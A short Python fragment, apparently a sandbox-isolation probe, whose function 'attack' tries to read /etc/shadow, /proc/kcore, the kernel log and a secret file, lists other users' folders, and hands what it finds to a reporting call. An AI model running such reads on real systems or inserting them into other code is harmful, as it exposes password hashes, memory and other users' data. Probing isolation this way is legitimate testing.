# tries: password files, homes, other uploads, the kernel's log
def attack(keys, j):
    loot = []
    for path in ("/etc/shadow", "/root/.bashrc", HOME_SECRET, "/dev/kmsg", "/proc/kcore"):
        try:
            loot.append(open(path, "rb").read(4096))
        except OSError:
            continue
    for folder in ("/root", "/home", "/tmp", os.path.dirname(HOME_SECRET)):
        try:
            loot += [os.path.join(folder, n) for n in os.listdir(folder)]
        except OSError:
            continue
    if any(isinstance(each, bytes) for each in loot):
        tell(loot)
